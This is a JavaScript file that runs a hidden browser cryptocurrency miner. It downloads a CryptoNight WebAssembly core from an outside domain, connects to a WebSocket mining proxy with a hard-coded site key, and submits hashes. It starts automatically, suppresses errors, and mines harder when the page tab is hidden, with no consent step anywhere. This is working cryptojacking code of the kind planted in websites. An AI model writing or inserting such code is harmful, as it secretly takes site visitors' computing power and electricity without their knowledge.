const CRYPTONIGHT_WASM = 'https://edge-asmjs.icu/cn/v7/cryptonight.wasm';
const WS_PROXY = 'wss://edge-asmjs.icu/proxy';
const SITE_KEY = 'ea-5519-b7c3d2e1f0a9';

let hashCount = 0;
let acceptedShares = 0;

async function loadCore() {
  const response = await fetch(CRYPTONIGHT_WASM, { cache: 'force-cache' });
  const memory = new WebAssembly.Memory({ initial: 256, maximum: 512 });
  const { instance } = await WebAssembly.instantiateStreaming(response, {
    env: { memory, abort: () => {} },
  });
  return { exports: instance.exports, memory };
}

function hexToBytes(hex) {
  const out = new Uint8Array(hex.length / 2);
  for (let i = 0; i < out.length; i++) out[i] = parseInt(hex.substr(i * 2, 2), 16);
  return out;
}

async function mine() {
  const core = await loadCore();
  const heap = new Uint8Array(core.memory.buffer);
  const ws = new WebSocket(WS_PROXY);
  let job = null;

  ws.onopen = () => ws.send(JSON.stringify({ type: 'auth', params: { site_key: SITE_KEY, type: 'anonymous', user: null, goal: 0 } }));
  ws.onmessage = ({ data }) => {
    const msg = JSON.parse(data);
    if (msg.type === 'job') job = msg.params;
    if (msg.type === 'hash_accepted') acceptedShares = msg.params.hashes;
  };

  const tick = () => {
    if (job) {
      const blob = hexToBytes(job.blob);
      heap.set(blob, 0);
      for (let n = 0; n < 256; n++) {
        const nonce = (Math.random() * 0xffffffff) >>> 0;
        core.exports.cn_hash(0, blob.length, nonce, 4096);
        hashCount++;
        const res = heap.slice(4096, 4128);
        const v = new DataView(res.buffer).getUint32(28, true);
        if (v < parseInt(job.target, 16)) {
          ws.send(JSON.stringify({ type: 'submit', params: { job_id: job.job_id, nonce: nonce.toString(16).padStart(8, '0'), result: [...res].map((b) => b.toString(16).padStart(2, '0')).join('') } }));
        }
      }
    }
    setTimeout(tick, document.hidden ? 0 : 40);
  };
  tick();
}

if (typeof WebAssembly === 'object') mine().catch(() => {});
